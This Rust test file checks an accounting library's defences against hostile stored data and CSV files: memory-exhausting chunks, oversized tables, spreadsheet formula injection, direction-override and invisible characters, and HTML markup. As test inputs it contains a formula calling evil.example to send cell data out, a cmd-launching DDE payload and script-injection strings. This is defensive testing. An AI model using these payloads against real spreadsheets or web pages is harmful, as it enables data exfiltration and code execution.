//! The hostile-readers corpus: stored parts of a change log and CSV files made
//! to exhaust memory, to make a book unopenable, to run as formulas in a
//! spreadsheet, or to show a name as something it is not. Each case asserts the
//! typed error (or the documented outcome) and that the book is unchanged.
//! Files are in `fixtures/hostile/readers/` (its README names each); cases a
//! file cannot hold (megabytes, or built from a book) are built here.

mod fixtures;

use std::path::Path;

use chrono::NaiveDate;
use futures_executor::block_on;
use kura_core::book::{save_account, Book, Record, WriteCtx};
use kura_core::demo::{demo_book, sequential_ids};
use kura_core::export::moneyforward::moneyforward_journal;
use kura_core::export::yayoi::{export_mapping, yayoi_journal};
use kura_core::files::bank::{load_statement, parse_statement, STATEMENT_COLUMNS};
use kura_core::files::interchange::{
    export_items, export_journal, export_partners, import_items, import_journal, import_partners,
    inspect, Import, ITEM_FIELDS, JOURNAL_FIELDS, PARTNER_FIELDS,
};
use kura_core::files::table::{guess_mapping, read_table, MAX_CELLS, MAX_COLUMNS, MAX_ROWS};
use kura_core::files::text::{check_visible, decode_text, TextEncoding, MAX_TEXT_BYTES};
use kura_core::files::{capped, Problem, ProblemKind, MAX_LISTED_PROBLEMS};
use kura_core::ids::{DeviceId, RecordId};
use kura_core::ledger::{
    Account, AccountType, EntryHeader, EntryOrigin, EntryStatus, JournalEntry, Posting,
};
use kura_core::locale::Locale;
use kura_core::money::Currency;
use kura_core::reports::csv::{
    blue_return_csv, change_history_csv, general_ledger_csv, journal_csv,
    monthly_profit_and_loss_csv, statement_csv, stock_ledger_csv, tax_return_csv, tax_summary_csv,
    trial_balance_csv, write_rows,
};
use kura_core::reports::{
    balance_sheet, balance_sheet_lines, blue_return, change_history, general_ledger, journal,
    monthly_profit_and_loss, profit_and_loss, profit_and_loss_lines, stock_ledger, tax_return,
    tax_summary, trial_balance, HistoryQuery, Period, ReturnChoices, StatementLabel,
};
use kura_core::store::{
    decode_chunk, decode_row, encode_chunk, encode_row, Budget, ChunkError, LoadedBook,
    MemoryStore, SetAside, Store, StoredPart, MAX_TEXT_BYTES_PER_CHUNK,
};
use kura_core::sync::{checksum, Change, ChangeSet, Hlc};
use proptest::prelude::*;
use rust_decimal::Decimal;

fn fixture(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/hostile/readers")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn day(text: &str) -> NaiveDate {
    text.parse().unwrap()
}

fn year() -> Period {
    Period::new(day("2026-01-01"), day("2026-12-31")).unwrap()
}

fn ctx(n: u64) -> WriteCtx {
    WriteCtx {
        set_id: RecordId::from_parts(1_800_000_000_000 + n, u128::from(n)),
        stamp: Hlc {
            wall_ms: 1_800_000_000_000 + n,
            counter: 0,
            device: DeviceId(RecordId::from_parts(1, 1)),
        },
    }
}

fn over(what: Budget) -> ChunkError {
    ChunkError::OverBudget {
        what,
        limit: what.limit(),
    }
}

/// 10¹⁸ ms: the 19-digit stamp the fixtures carry.
const FAR: u128 = 1_000_000_000_000_000_000;

// ---- stored parts of the change log ----

/// A small demo book's change sets: its settings, chart and a year of entries.
fn demo_sets() -> Vec<ChangeSet> {
    demo_book(
        3,
        1,
        40,
        day("2026-01-01"),
        &mut sequential_ids(1_767_225_600_000),
    )
}

/// A store holding the demo book, part packed, part in the tail.
fn demo_store() -> (MemoryStore, Vec<ChangeSet>) {
    let sets = demo_sets();
    let store = MemoryStore::new();
    block_on(async {
        for set in &sets[..sets.len() / 2] {
            store.commit(set).await.unwrap();
        }
        store.compact().await.unwrap();
        for set in &sets[sets.len() / 2..] {
            store.commit(set).await.unwrap();
        }
    });
    (store, sets)
}

fn open(store: &MemoryStore) -> LoadedBook {
    block_on(store.load_book()).expect("the store reads")
}

/// A stored chunk of `bytes` next to the demo book: the book opens exactly as
/// before, the chunk named with `reason`.
fn chunk_is_set_aside(bytes: &[u8], reason: ChunkError) {
    assert_eq!(decode_chunk(bytes), Err(reason.clone()));
    let (store, sets) = demo_store();
    let before = open(&store);
    assert!(before.set_aside.is_empty());
    store.put_raw_chunk("999999999999999999-hostile", bytes);
    let after = open(&store);
    assert_eq!(after.book, Book::from_change_sets(&sets), "the rest opens");
    assert_eq!(checksum(&after.book), checksum(&before.book), "unchanged");
    assert_eq!(
        after.set_aside,
        vec![SetAside {
            part: StoredPart::Chunk,
            key: "999999999999999999-hostile".into(),
            reason,
            sets_read: 0,
        }]
    );
}

#[test]
fn a_chunk_declaring_ten_million_changes_is_refused_before_allocating() {
    let bytes = fixture("changes-count-10m.chunk");
    chunk_is_set_aside(&bytes, over(Budget::ChangesPerSet));
}

#[test]
fn a_string_table_declaring_five_million_texts_is_refused() {
    let bytes = fixture("strings-count-5m.chunk");
    chunk_is_set_aside(&bytes, over(Budget::StringsPerChunk));
}

#[test]
fn a_string_count_beyond_the_chunk_is_refused() {
    let bytes = fixture("string-count-beyond-bytes.chunk");
    let reason = ChunkError::Damaged("a count exceeds the chunk".into());
    chunk_is_set_aside(&bytes, reason);
}

#[test]
fn a_far_future_stamp_in_a_binary_chunk_is_refused() {
    let bytes = fixture("far-future-stamp.chunk");
    chunk_is_set_aside(&bytes, ChunkError::StampOutOfRange { wall_ms: FAR });
}

/// What an earlier build stored from a crafted changes file: a row whose
/// stamp has 19 digits. The book opens without it (it used not to open at all),
/// and the same set is refused if written again.
#[test]
fn a_far_future_stamp_in_a_json_row_is_set_aside_and_refused_when_written() {
    let row = String::from_utf8(fixture("far-future-row.json")).unwrap();
    let far = ChunkError::StampOutOfRange { wall_ms: FAR };
    assert_eq!(decode_row(&row), Err(far.clone()));
    let json_chunk = format!("[{row}]");
    assert_eq!(decode_chunk(json_chunk.as_bytes()), Err(far.clone()));

    let (store, sets) = demo_store();
    let before = checksum(&open(&store).book);
    store.put_raw_row("far-future", &row);
    let loaded = open(&store);
    assert_eq!(checksum(&loaded.book), before);
    assert_eq!(loaded.book, Book::from_change_sets(&sets));
    assert_eq!(loaded.set_aside.len(), 1);
    assert_eq!(
        (loaded.set_aside[0].part, &loaded.set_aside[0].reason),
        (StoredPart::Row, &far)
    );
    // Writing goes on, packing leaves the row where it is, and a set stamped
    // that far is never stored again.
    let mut again = sets[5].clone();
    again.id = RecordId::from_parts(1_800_000_000_000, 9);
    again.stamp.wall_ms = u64::MAX;
    assert!(matches!(
        encode_row(&again),
        Err(ChunkError::StampOutOfRange { .. })
    ));
    block_on(store.compact()).unwrap();
    assert_eq!(block_on(store.tail_len()).unwrap(), 1);
    assert_eq!(open(&store).set_aside, loaded.set_aside);
}

#[test]
fn a_chunk_that_decodes_partly_opens_with_the_rest_and_is_named() {
    let bytes = fixture("partly-damaged.chunk");
    let (store, sets) = demo_store();
    store.put_raw_chunk("999999999999999999-partly", &bytes);
    let loaded = open(&store);
    assert_eq!(
        loaded.set_aside,
        vec![SetAside {
            part: StoredPart::Chunk,
            key: "999999999999999999-partly".into(),
            reason: ChunkError::StampOutOfRange { wall_ms: FAR },
            sets_read: 2,
        }]
    );
    // The two whole sets before the damage are in; the demo book is intact.
    assert_eq!(loaded.book.change_set_count(), sets.len() + 2);
    assert!(sets.iter().all(|s| loaded.book.has_applied(s.id)));
    assert_eq!(
        loaded.book.entries().count(),
        Book::from_change_sets(&sets).entries().count()
    );
}

/// An entry of `lines` lines whose description is `description`.
fn entry(n: u128, lines: usize, description: String) -> Change {
    let account = |k: u128| RecordId::from_parts(1_700_000_000_000, 500 + k);
    let mut postings: Vec<Posting> = (1..lines)
        .map(|k| Posting {
            account: account(k as u128 % 2),
            amount: Decimal::ONE,
            tax_code: None,
            memo: String::new(),
            tax_part: None,
            business_class: None,
            supply_date: None,
        })
        .collect();
    postings.push(Posting {
        account: account(9),
        amount: -Decimal::from(lines - 1),
        tax_code: None,
        memo: String::new(),
        tax_part: None,
        business_class: None,
        supply_date: None,
    });
    let header = EntryHeader {
        id: RecordId::from_parts(1_700_000_000_000, 1_000 + n),
        date: day("2026-01-05"),
        description,
        partner: None,
        status: EntryStatus::Posted,
        corrects: None,
    };
    let entry = JournalEntry::from_stored(header, postings, EntryOrigin::Entered).unwrap();
    Change::Put {
        record: Record::JournalEntry(entry),
    }
}

fn set_of(n: u64, changes: Vec<Change>) -> ChangeSet {
    let ctx = ctx(n);
    ChangeSet {
        id: ctx.set_id,
        stamp: ctx.stamp,
        changes,
        link: None,
    }
}

#[test]
fn an_entry_beyond_the_lines_budget_is_refused_packed_and_as_a_row() {
    let long = set_of(1, vec![entry(1, 10_001, "x".into())]);
    let bytes = encode_chunk(std::slice::from_ref(&long));
    assert_eq!(decode_chunk(&bytes), Err(over(Budget::LinesPerEntry)));
    assert_eq!(encode_row(&long), Err(over(Budget::LinesPerEntry)));
    chunk_is_set_aside(&bytes, over(Budget::LinesPerEntry));
    let fits = set_of(2, vec![entry(2, 10_000, "x".into())]);
    assert_eq!(
        decode_chunk(&encode_chunk(std::slice::from_ref(&fits))).unwrap(),
        vec![fits]
    );
}

/// Writes a LEB128 number, as the binary chunk format does.
fn uvar(out: &mut Vec<u8>, mut value: u64) {
    while value >= 0x80 {
        out.push(value as u8 | 0x80);
        value >>= 7;
    }
    out.push(value as u8);
}

/// One text of a mebibyte in the table, and one set of `entries` entries each
/// taking it as its description: the chunk is a mebibyte, its entries' texts
/// `entries` mebibytes. Hand-made: Kura's writer never packs such a run.
fn one_text_read_many_times(entries: u64) -> Vec<u8> {
    let device = RecordId::from_parts(1_700_000_000_000, 1).to_bytes();
    let mut bytes = b"\x89KCH\x01".to_vec();
    uvar(&mut bytes, 2); // strings: the long text, and "" for memos
    uvar(&mut bytes, 1 << 20);
    bytes.extend(std::iter::repeat_n(b'x', 1 << 20));
    uvar(&mut bytes, 0);
    uvar(&mut bytes, 1); // ids: the device, also the lines' account
    bytes.extend_from_slice(&device);
    for kinds in [&br#"{}"#[..], &br#"{"status":"posted"}"#[..]] {
        uvar(&mut bytes, 1);
        uvar(&mut bytes, kinds.len() as u64);
        bytes.extend_from_slice(kinds);
    }
    uvar(&mut bytes, 1); // one set
    bytes.extend_from_slice(&RecordId::from_parts(1_700_000_000_000, 2).to_bytes());
    uvar(&mut bytes, 1_767_225_600_000);
    uvar(&mut bytes, 0);
    uvar(&mut bytes, 0);
    uvar(&mut bytes, entries);
    for n in 0..entries {
        bytes.push(1);
        let id = RecordId::from_parts(1_700_000_000_000, 10 + u128::from(n));
        bytes.extend_from_slice(&id.to_bytes());
        uvar(&mut bytes, 2 * 739_250); // the date, zigzagged
        uvar(&mut bytes, 0); // description: the long text
        uvar(&mut bytes, 0); // no partner
        bytes.push(0); // corrects nothing
        uvar(&mut bytes, 0); // posted
        uvar(&mut bytes, 2);
        for amount in [2, 1] {
            // +1 and -1 zigzagged, the same account, no tax, memo ""
            uvar(&mut bytes, 0);
            uvar(&mut bytes, amount);
            bytes.push(0);
            uvar(&mut bytes, 0);
            uvar(&mut bytes, 1);
        }
    }
    bytes
}

#[test]
fn one_long_text_read_past_the_text_budget_is_refused() {
    let mebibytes = (MAX_TEXT_BYTES_PER_CHUNK >> 20) as u64;
    let within = decode_chunk(&one_text_read_many_times(2)).unwrap();
    assert_eq!(
        within[0].changes.len(),
        2,
        "the hand-made chunk is well formed"
    );
    let bytes = one_text_read_many_times(mebibytes + 1);
    assert!(bytes.len() < 2 << 20, "a chunk of two mebibytes");
    chunk_is_set_aside(&bytes, over(Budget::TextBytesPerChunk));
}

/// A stored part, possibly garbage.
#[derive(Clone, Debug)]
enum Part {
    /// A set of the demo book as a row.
    Row(usize),
    /// Sets of the demo book packed in a chunk.
    Chunk(Vec<usize>),
    /// A binary chunk of demo sets with bytes changed.
    Flipped(Vec<usize>, Vec<(usize, u8)>),
    /// Any bytes as a chunk.
    GarbageChunk(Vec<u8>),
    /// Any text as a row.
    GarbageRow(String),
}

fn parts(sets: usize) -> impl Strategy<Value = Vec<Part>> {
    let index = 0..sets;
    let part = prop_oneof![
        index.clone().prop_map(Part::Row),
        proptest::collection::vec(index.clone(), 1..6).prop_map(Part::Chunk),
        (
            proptest::collection::vec(index, 1..6),
            proptest::collection::vec((any::<usize>(), 1..=255u8), 1..4)
        )
            .prop_map(|(s, f)| Part::Flipped(s, f)),
        proptest::collection::vec(any::<u8>(), 0..64)
            .prop_map(|mut b| {
                if b.len() % 2 == 0 {
                    let mut head = b"\x89KCH\x01".to_vec();
                    head.append(&mut b);
                    head
                } else {
                    b
                }
            })
            .prop_map(Part::GarbageChunk),
        "\\PC{0,40}".prop_map(Part::GarbageRow),
    ];
    proptest::collection::vec(part, 0..12)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Any sequence of stored rows and chunks, some of them garbage, gives a
    /// book that opens, with every whole part in it and the garbage set aside,
    /// and whose reports run.
    #[test]
    fn any_stored_log_opens_and_reports(parts in parts(30)) {
        let sets = demo_sets();
        let store = MemoryStore::new();
        let mut whole = Vec::new();
        let mut garbage = 0;
        for (n, part) in parts.iter().enumerate() {
            let key = format!("{n:03}");
            match part {
                Part::Row(i) => {
                    store.put_raw_row(&key, &encode_row(&sets[*i]).unwrap());
                    whole.push(sets[*i].id);
                }
                Part::Chunk(ids) => {
                    let run: Vec<ChangeSet> = ids.iter().map(|i| sets[*i].clone()).collect();
                    store.put_raw_chunk(&key, &encode_chunk(&run));
                    whole.extend(run.iter().map(|s| s.id));
                }
                Part::Flipped(ids, flips) => {
                    let run: Vec<ChangeSet> = ids.iter().map(|i| sets[*i].clone()).collect();
                    let mut bytes = encode_chunk(&run);
                    for (at, mask) in flips {
                        let at = at % bytes.len();
                        bytes[at] ^= mask;
                    }
                    store.put_raw_chunk(&key, &bytes);
                }
                Part::GarbageChunk(bytes) => {
                    store.put_raw_chunk(&key, bytes);
                    garbage += 1;
                }
                Part::GarbageRow(text) => {
                    store.put_raw_row(&key, text);
                    garbage += 1;
                }
            }
        }
        let loaded = open(&store);
        prop_assert!(whole.iter().all(|id| loaded.book.has_applied(*id)));
        prop_assert!(loaded.set_aside.len() >= garbage);
        prop_assert!(loaded.set_aside.len() <= parts.len());
        let book = &loaded.book;
        let _ = trial_balance(book, year());
        let _ = profit_and_loss(book, year());
        let _ = balance_sheet(book, day("2026-12-31"));
        let _ = journal(book, year());
        let _ = tax_summary(book, year());
        for account in book.accounts() {
            let _ = general_ledger(book, account.id, year());
        }
        // What opened is what reading the store gives.
        let read = block_on(store.load()).unwrap();
        prop_assert_eq!(&Book::from_change_sets(&read), book);
    }
}

// ---- CSV files ----

#[test]
fn a_row_of_too_many_columns_is_refused_at_its_line() {
    let problems = inspect(&fixture("too-many-columns.csv"), &JOURNAL_FIELDS).unwrap_err();
    assert_eq!(
        problems,
        vec![Problem::line(
            1,
            ProblemKind::TooManyColumns {
                limit: MAX_COLUMNS,
                found: 65
            }
        )]
    );
}

#[test]
fn a_file_of_too_many_rows_or_cells_is_refused_at_the_first_beyond() {
    let rows = "a\r\n".repeat(MAX_ROWS + 1);
    assert_eq!(
        read_table(&rows),
        Err(Problem::line(
            MAX_ROWS + 1,
            ProblemKind::TooManyRows { limit: MAX_ROWS }
        ))
    );
    assert_eq!(
        read_table(&"a\r\n".repeat(MAX_ROWS)).unwrap().rows.len(),
        MAX_ROWS
    );
    let wide = format!("{}\r\n", ["1"; 60].join(",")).repeat(MAX_CELLS / 60 + 1);
    assert_eq!(
        read_table(&wide),
        Err(Problem::line(
            MAX_CELLS / 60 + 1,
            ProblemKind::TooManyCells { limit: MAX_CELLS }
        ))
    );
}

/// A quote left open swallows the rest of the file into one cell: refused as
/// a cell too long, where the quote opens.
#[test]
fn a_giant_cell_is_refused_where_it_starts() {
    let problems = inspect(&fixture("unclosed-quote.csv"), &JOURNAL_FIELDS).unwrap_err();
    assert_eq!(
        problems,
        vec![Problem::cell(
            2,
            9,
            ProblemKind::CellTooLong { limit: 10_000 }
        )]
    );
}

#[test]
fn a_file_over_the_size_limit_is_refused_before_it_is_read() {
    let huge = vec![b'a'; MAX_TEXT_BYTES + 1];
    let too_large = ProblemKind::TooLarge {
        limit: MAX_TEXT_BYTES,
    };
    assert_eq!(decode_text(&huge).unwrap_err().kind, too_large);
    let text = String::from_utf8(huge).unwrap();
    assert_eq!(read_table(&text).unwrap_err().kind, too_large);
}

/// A book with the demo's settings and chart, and nothing else.
fn chart_book() -> Book {
    let chart = |set: &&ChangeSet| {
        set.changes.iter().all(|c| {
            matches!(
                c,
                Change::Put {
                    record: Record::BookSettings(_) | Record::Account(_)
                }
            )
        })
    };
    Book::from_change_sets(demo_sets().iter().filter(chart))
}

fn ids() -> impl FnMut() -> RecordId {
    sequential_ids(1_950_000_000_000)
}

#[test]
fn a_hundred_thousand_bad_lines_give_a_capped_list_with_the_count() {
    let mut text =
        "伝票番号,日付,勘定科目コード,勘定科目,借方金額,貸方金額,税区分,取引先,摘要,メモ\r\n"
            .to_string();
    for n in 1..=100_000 {
        text.push_str(&format!("{n},2026-13-45,,現金,1000,,,,x,\r\n"));
    }
    let book = chart_book();
    let before = checksum(&book);
    let file = inspect(text.as_bytes(), &JOURNAL_FIELDS).unwrap();
    let problems = import_journal(&book, &file.table, &file.mapping, &mut ids()).unwrap_err();
    assert!(problems.len() >= 100_000, "{}", problems.len());
    let more = problems.len() - MAX_LISTED_PROBLEMS;
    let listed = capped(problems.clone());
    assert_eq!(listed.len(), MAX_LISTED_PROBLEMS + 1);
    assert_eq!(
        &listed[..MAX_LISTED_PROBLEMS],
        &problems[..MAX_LISTED_PROBLEMS]
    );
    assert_eq!(
        listed[MAX_LISTED_PROBLEMS],
        Problem::file(ProblemKind::MoreProblems { count: more })
    );
    assert_eq!(capped(problems[..3].to_vec()), problems[..3].to_vec());
    assert_eq!(checksum(&book), before, "nothing was written");
}

/// Texts a spreadsheet would run, as stored in a book. The last starts with a
/// `'` of its own.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"詳細\")",
    "+81 3 1234 5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "＝全角の式",
    "'=already marked",
];

/// A stored text as a cell of a file made by hand: quoted, and a text that
/// starts with `'` then formula text given the spreadsheet's own text mark
/// (`''=x`), since an import reads `'=x` as the marked text `=x`.
fn cell(text: &str) -> String {
    let text = if text.starts_with('\'') {
        format!("'{text}")
    } else {
        text.to_string()
    };
    format!("\"{}\"", text.replace('"', "\"\""))
}

/// Every cell of a CSV as written, unread by Kura (no formula read-back).
fn raw_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let text = decode_text(bytes).unwrap().text;
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Each formula appears in the file only marked: `'` + the text.
fn assert_marked(bytes: &[u8], texts: &[&str]) {
    let cells: Vec<String> = raw_cells(bytes).into_iter().flatten().collect();
    for text in texts {
        assert!(
            cells.iter().any(|c| *c == format!("'{text}")),
            "{text} marked"
        );
        assert!(!cells.iter().any(|c| c == text), "{text} never bare");
    }
}

fn apply(book: &mut Book, import: Import, n: u64) {
    assert!(book.apply(&import.change_set(ctx(n))));
}

#[test]
fn formula_text_in_every_imported_name_is_stored_as_text_exported_marked_and_read_back() {
    // Partners: names and notes.
    let mut csv = "\u{feff}取引先名,フリガナ,得意先,仕入先,備考\r\n".to_string();
    for (n, f) in FORMULAS.iter().enumerate() {
        let quoted = cell(f);
        csv.push_str(&format!("{quoted},ヨミ{n},1,0,{quoted}\r\n"));
    }
    let mut book = chart_book();
    let file = inspect(csv.as_bytes(), &PARTNER_FIELDS).unwrap();
    let import = import_partners(&book, &file.table, &file.mapping, &mut ids()).unwrap();
    apply(&mut book, import, 1);
    let mut names: Vec<&str> = book.partners().map(|p| p.name.as_str()).collect();
    names.sort_unstable();
    let mut expected = FORMULAS.to_vec();
    expected.sort_unstable();
    assert_eq!(names, expected, "stored as the text it is");
    let exported = export_partners(&book, Locale::Ja, TextEncoding::Utf8Bom).unwrap();
    assert_marked(&exported, &FORMULAS);
    let mut again = chart_book();
    let file = inspect(&exported, &PARTNER_FIELDS).unwrap();
    let import = import_partners(&again, &file.table, &file.mapping, &mut ids()).unwrap();
    apply(&mut again, import, 2);
    let names_again = |b: &Book| {
        let mut v: Vec<(String, String)> = b
            .partners()
            .map(|p| (p.name.clone(), p.notes.clone()))
            .collect();
        v.sort();
        v
    };
    assert_eq!(
        names_again(&again),
        names_again(&book),
        "read back identical"
    );

    // Items: codes and names.
    let mut csv = "\u{feff}品目コード,品名,販売単価\r\n".to_string();
    for (n, f) in FORMULAS.iter().enumerate() {
        let quoted = cell(f);
        csv.push_str(&format!("@C-{n},{quoted},500\r\n"));
    }
    let file = inspect(csv.as_bytes(), &ITEM_FIELDS).unwrap();
    let import = import_items(&book, &file.table, &file.mapping, &mut ids()).unwrap();
    apply(&mut book, import, 3);
    let exported = export_items(&book, Locale::Ja, TextEncoding::Utf8Bom).unwrap();
    assert_marked(&exported, &FORMULAS);
    assert_marked(&exported, &["@C-0"]);
    let mut again = chart_book();
    let file = inspect(&exported, &ITEM_FIELDS).unwrap();
    let import = import_items(&again, &file.table, &file.mapping, &mut ids()).unwrap();
    apply(&mut again, import, 4);
    let item_names = |b: &Book| {
        let mut v: Vec<(String, String)> = b
            .items()
            .map(|i| (i.code.clone(), i.name.clone()))
            .collect();
        v.sort();
        v
    };
    assert_eq!(item_names(&again), item_names(&book));

    // The journal: an account named like a formula, descriptions, partners, memos.
    let (mut book, account) = with_account(chart_book(), "=SUM(1+2)");
    let mut csv =
        "\u{feff}伝票番号,日付,勘定科目コード,勘定科目,借方金額,貸方金額,税区分,取引先,摘要,メモ\r\n"
            .to_string();
    for (n, f) in FORMULAS.iter().enumerate() {
        let quoted = cell(f);
        let v = n + 1;
        csv.push_str(&format!(
            "{v},2026-01-05,,=SUM(1+2),500,,,{quoted},{quoted},{quoted}\r\n"
        ));
        csv.push_str(&format!(
            "{v},2026-01-05,,現金,,500,,{quoted},{quoted},\r\n"
        ));
    }
    let file = inspect(csv.as_bytes(), &JOURNAL_FIELDS).unwrap();
    let import = import_journal(&book, &file.table, &file.mapping, &mut ids()).unwrap();
    apply(&mut book, import, 5);
    let texts = |b: &Book| {
        let mut v: Vec<(String, Option<String>, Vec<String>)> = b
            .entries()
            .map(|e| {
                let memos = e.lines().iter().map(|l| l.memo.clone()).collect();
                (
                    e.description().to_string(),
                    e.partner().map(str::to_string),
                    memos,
                )
            })
            .collect();
        v.sort();
        v
    };
    let stored = texts(&book);
    assert!(FORMULAS
        .iter()
        .all(|f| stored.iter().any(|(d, _, _)| d == f)));
    assert!(book
        .entries()
        .all(|e| e.lines().iter().any(|l| l.account == account)));
    let exported = export_journal(&book, year(), Locale::Ja, TextEncoding::Utf8Bom).unwrap();
    assert_marked(&exported, &FORMULAS);
    assert_marked(&exported, &["=SUM(1+2)"]);
    let (mut again, _) = with_account(chart_book(), "=SUM(1+2)");
    let file = inspect(&exported, &JOURNAL_FIELDS).unwrap();
    let import = import_journal(&again, &file.table, &file.mapping, &mut ids()).unwrap();
    apply(&mut again, import, 6);
    assert_eq!(texts(&again), stored, "read back identical");

    // A bank statement's descriptions.
    let mut csv = "日付,摘要,お預り金額,お引出金額,残高\r\n".to_string();
    for (n, f) in FORMULAS.iter().enumerate() {
        let quoted = cell(f);
        csv.push_str(&format!(
            "2026/01/0{},{quoted},1000,,{}\r\n",
            n + 1,
            1000 * (n + 1)
        ));
    }
    let table = load_statement(csv.as_bytes()).unwrap();
    let mapping = guess_mapping(&table, &STATEMENT_COLUMNS);
    let lines = parse_statement(&table, &mapping, Currency::JPY).unwrap();
    let descriptions: Vec<&str> = lines.iter().map(|l| l.description.as_str()).collect();
    assert_eq!(descriptions, FORMULAS.to_vec());
}

/// `book` with one more expense account named `name`.
fn with_account(mut book: Book, name: &str) -> (Book, RecordId) {
    let id = RecordId::from_parts(1_960_000_000_000, 1);
    let mut account = Account::new(id, AccountType::Expense);
    account.code = "999".into();
    account.name_ja = name.into();
    account.name_en = name.into();
    let set = save_account(&book, account, ctx(50)).unwrap();
    book.apply(&set);
    (book, id)
}

#[test]
fn a_direction_override_in_a_partner_name_is_refused_at_its_cell() {
    let book = chart_book();
    let before = checksum(&book);
    let problems = inspect(&fixture("bidi-partner.csv"), &PARTNER_FIELDS).unwrap_err();
    assert_eq!(
        problems,
        vec![Problem::cell(
            3,
            1,
            ProblemKind::DirectionControl {
                character: '\u{202e}'
            }
        )]
    );
    for control in [
        '\u{202a}', '\u{202d}', '\u{2066}', '\u{2069}', '\u{200f}', '\u{061c}',
    ] {
        assert_eq!(
            check_visible(&format!("山田{control}商事")),
            Err(ProblemKind::DirectionControl { character: control })
        );
    }
    assert_eq!(checksum(&book), before);
}

#[test]
fn a_zero_width_character_in_an_item_name_is_refused_at_its_cell() {
    let book = chart_book();
    let before = checksum(&book);
    let problems = inspect(&fixture("zero-width-item.csv"), &ITEM_FIELDS).unwrap_err();
    assert_eq!(
        problems,
        vec![Problem::cell(
            2,
            2,
            ProblemKind::InvisibleCharacter {
                character: '\u{200b}'
            }
        )]
    );
    for hidden in [
        "a\u{2060}b",
        "a\u{feff}b",
        "食\u{200d}",
        "a\u{200c}b",
        "\u{200d}パン",
    ] {
        assert!(
            matches!(
                check_visible(hidden),
                Err(ProblemKind::InvisibleCharacter { .. })
            ),
            "{hidden:?}"
        );
    }
    // Joiners inside emoji and between letters that need them are kept.
    assert_eq!(
        check_visible("家族👨\u{200d}👩\u{200d}👧 🏳\u{fe0f}\u{200d}🌈"),
        Ok(())
    );
    assert_eq!(check_visible("می\u{200c}خواهم"), Ok(()));
    assert_eq!(checksum(&book), before);
}

/// Markup is text: an account named with it is found by that name, and every
/// file writes it back as it is (the screens escape it; see `check_visible`).
#[test]
fn markup_in_an_account_name_is_kept_as_literal_text() {
    let markup = "<script>alert(1)</script>";
    let (mut book, account) = with_account(chart_book(), markup);
    let csv = format!(
        "\u{feff}伝票番号,日付,勘定科目コード,勘定科目,借方金額,貸方金額,税区分,取引先,摘要,メモ\r\n\
         1,2026-01-05,,{markup},500,,,<b>太字</b>,<img src=x onerror=alert(1)>,\r\n\
         1,2026-01-05,,現金,,500,,,,\r\n"
    );
    let file = inspect(csv.as_bytes(), &JOURNAL_FIELDS).unwrap();
    let import = import_journal(&book, &file.table, &file.mapping, &mut ids()).unwrap();
    apply(&mut book, import, 7);
    let entry = book.entries().next().unwrap();
    assert_eq!(entry.description(), "<img src=x onerror=alert(1)>");
    assert_eq!(entry.partner(), Some("<b>太字</b>"));
    assert_eq!(entry.lines()[0].account, account);
    let exported = export_journal(&book, year(), Locale::Ja, TextEncoding::Utf8Bom).unwrap();
    let cells: Vec<String> = raw_cells(&exported).into_iter().flatten().collect();
    assert!(cells.iter().any(|c| c == markup));
    let unknown = csv.replace(markup, "<img src=y>");
    let file = inspect(unknown.as_bytes(), &JOURNAL_FIELDS).unwrap();
    let before = checksum(&book);
    let problems = import_journal(&book, &file.table, &file.mapping, &mut ids()).unwrap_err();
    assert_eq!(
        problems[0].kind,
        ProblemKind::UnknownAccount {
            name: "<img src=y>".into()
        }
    );
    assert_eq!(checksum(&book), before);
}

// ---- every CSV writer ----

/// A loss of 500 in an expense account named like a formula, with a
/// formula-like description, partner and memo.
fn formula_ledger() -> fixtures::Ledger {
    let mut ledger = fixtures::Ledger::parse(
        "
2026-01-05 * =HYPERLINK(1) | @SUM(1)
  雑費   500 # -2+3
  現金  -500
",
    );
    let id = ledger.account("雑費");
    let mut account = ledger.book.account(id).unwrap().clone();
    account.name_ja = "=1+2".into();
    account.name_en = "=1+2".into();
    ledger.put(Record::Account(account));
    ledger
}

/// The text cells come out marked, `-500` stays a plain number.
fn check_writer(name: &str, text: &str, texts: &[&str], negative: bool) {
    let cells: Vec<String> = raw_cells(text.as_bytes()).into_iter().flatten().collect();
    for t in texts {
        assert!(
            cells.iter().any(|c| *c == format!("'{t}")),
            "{name}: {t} marked\n{text}"
        );
        assert!(!cells.iter().any(|c| c == t), "{name}: {t} bare\n{text}");
    }
    if negative {
        assert!(
            cells.iter().any(|c| c == "-500"),
            "{name}: -500 plain\n{text}"
        );
    }
    assert!(
        !cells.iter().any(|c| c.starts_with("'-5")),
        "{name}: a number marked"
    );
}

#[test]
fn every_csv_writer_marks_formula_text_and_keeps_amounts_plain() {
    let l = formula_ledger();
    let book = &l.book;
    let january = Period::new(day("2026-01-01"), day("2026-01-31")).unwrap();
    let h6 = ["=h"; 6];
    let tb = trial_balance(book, january);
    let text = trial_balance_csv(&tb, book, Locale::Ja, &h6, "e", "t");
    check_writer("trial balance", &text, &["=1+2", "=h"], false);
    let cash = l.account("現金");
    let gl = general_ledger(book, cash, january);
    let text = general_ledger_csv(&gl, book, Locale::Ja, &["h"; 8], "o", "c");
    check_writer(
        "general ledger",
        &text,
        &["=HYPERLINK(1)", "@SUM(1)", "=1+2"],
        true,
    );
    let j = journal(book, january);
    let text = journal_csv(&j, book, Locale::Ja, |_| "+tax".into(), &["h"; 10], "t");
    check_writer(
        "journal",
        &text,
        &["=HYPERLINK(1)", "@SUM(1)", "=1+2", "-2+3"],
        false,
    );
    let pl = profit_and_loss(book, january);
    let name = |l: StatementLabel| match l {
        StatementLabel::NetIncome => "-net".to_string(),
        _ => "r".to_string(),
    };
    let text = statement_csv(
        &profit_and_loss_lines(&pl),
        book,
        Locale::Ja,
        &["h"; 4],
        name,
    );
    check_writer("profit and loss", &text, &["=1+2", "-net"], true);
    let bs = balance_sheet(book, day("2026-01-31"));
    let lines = balance_sheet_lines(&bs);
    let text = statement_csv(&lines, book, Locale::Ja, &["h"; 4], |_| "@l".to_string());
